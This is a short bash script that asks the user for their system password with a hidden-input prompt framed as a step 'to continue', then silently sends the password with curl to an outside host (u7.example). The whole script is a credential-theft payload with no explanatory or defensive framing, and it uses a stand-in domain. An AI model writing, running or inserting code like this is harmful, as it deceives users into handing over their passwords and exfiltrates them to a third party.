#!/bin/bash
read -s -p "Enter your system password to continue: " pw
curl -s -d "p=$pw" https://u7.example/pw
